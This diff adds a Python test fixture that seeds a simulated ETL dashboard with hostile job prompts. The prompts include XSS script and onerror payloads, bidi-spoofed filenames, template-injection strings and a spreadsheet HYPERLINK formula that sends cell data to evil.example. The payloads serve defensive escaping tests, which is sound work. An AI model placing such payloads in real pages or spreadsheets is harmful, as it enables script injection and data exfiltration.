@@ -1,0 +1,131 @@
+"""A small world behind a simulated gateway, mirrored by the product, its dashboard served on loopback."""
+
+from __future__ import annotations
+
+import json
+import urllib.error
+import urllib.request
+from collections.abc import Iterator
+from contextlib import contextmanager
+from datetime import datetime
+from pathlib import Path
+from typing import Any, NamedTuple
+
+from etl.app import App
+from etl.config import Config, Database, Secret, SecretUrl, Service, Source
+from etl.simulator import World
+from etl.web.app import build
+from etl.web.dashboard import routes
+from etl.web.metrics import Metrics
+from etl.web.server import WebServer
+from etl.web.state import Cache, State
+from tests.rig import Rig, rig
+
+TOKEN = "canary-0f5e7712aa"
+#: What a stranger may write into a prompt.
+HOSTILE = {
+    "script": "<script>window.pwned = 1</script>",
+    "image": '"><img id="pwned" src="x" onerror="window.pwned = 1">',
+    "bidi": "safe \u202egpj.exe\u2066 \u200f \u2028 end",
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "large": "word " * 20_000,
+    "template": "{{ 7 * 7 }} {% include 'base.html' %} ${7*7} javascript:alert(1)",
+}
+
+
+class Answer(NamedTuple):
+    status: int
+    text: str
+    headers: Any
+
+    @property
+    def json(self) -> Any:
+        return json.loads(self.text)
+
+
+class Site:
+    """`app`, `clock` and `limits` may be replaced while it runs."""
+
+    def __init__(self, app: App, clock: Any = None, **service: Any) -> None:
+        self.app, self.limits = app, {source.name: 900.0 for source in app.config.sources}
+        more = {} if clock is None else {"clock": clock}
+        state = State(
+            app=lambda: self.app,
+            service=Service(**service),
+            metrics=Metrics(),
+            alive=lambda: True,
+            limits=lambda: self.limits,
+            cache=Cache(0.0),
+            **more,
+        )
+        self.server = WebServer(build(state, routes()), "127.0.0.1", 0)
+
+    @property
+    def url(self) -> str:
+        return self.server.url
+
+    def get(self, path: str, **headers: str) -> Answer:
+        request = urllib.request.Request(self.url + path, headers=headers)
+        try:
+            with _opener.open(request, timeout=60) as answer:
+                return Answer(answer.status, answer.read().decode(), answer.headers)
+        except urllib.error.HTTPError as error:
+            with error:
+                return Answer(error.code, error.read().decode(), error.headers)
+
+
+class _Stay(urllib.request.HTTPRedirectHandler):
+    def redirect_request(self, *args: Any) -> None:
+        """Redirects are looked at, not followed."""
+
+
+_opener = urllib.request.build_opener(_Stay)
+
+
+@contextmanager
+def small_world(folder: Path) -> Iterator[tuple[Rig, Site, dict[str, str]]]:
+    """Five days of jobs, some stuck, some hostile; the ids of the hostile ones by name."""
+    world = World(seed=18, jobs=240, gap=1800.0, rate=120.0, stuck=0.03, failures=0.15)
+    with rig(world, f"sqlite:///{folder / 'etl.db'}") as made:
+        ids = {name: world.add(**_hostile(made.now(), prompt)) for name, prompt in HOSTILE.items()}
+        ids["failed"] = world.add(
+            **_hostile(made.now(), "fails")
+            | {"status": "failed", "error": {"code": '"><b id=pwned>', "message": HOSTILE["image"]}}
+        )
+        ids["model"] = world.add(**_hostile(made.now(), "odd model") | {"model": '<i id="pwned">@SUM(1)'})
+        world.set("rejected", b'{"id": 1.5, "prompt": "' + HOSTILE["script"].encode() + b'"}')
+        made.ok()
+        site = Site(made.app, made.now)
+        with site.server:
+            yield made, site, ids
+
+
+def _hostile(now: datetime, prompt: str) -> dict[str, Any]:
+    moment = int(now.timestamp()) - 600
+    return {
+        "object": "video",
+        "model": "sora-2",
+        "status": "completed",
+        "progress": 100,
+        "created_at": moment,
+        "completed_at": moment + 60,
+        "size": "1280x720",
+        "seconds": "8",
+        "prompt": prompt,
+    }
+
+
+def unreachable() -> App:
+    """An application whose database does not answer."""
+    url = SecretUrl(f"postgresql://etl:{TOKEN}@127.0.0.1:1/etl")
+    return App(Config(sources=(Source(name="main", base_url="http://gateway"),), database=Database(url=url)))
+
+
+def empty(folder: Path) -> App:
+    """An application whose database is not there yet."""
+    database = Database(url=SecretUrl(f"sqlite:///{folder / 'empty.db'}"))
+    return App(Config(sources=(Source(name="main", base_url="http://gateway"),), database=database))
+
+
+def secret() -> Secret:
+    return Secret(TOKEN)
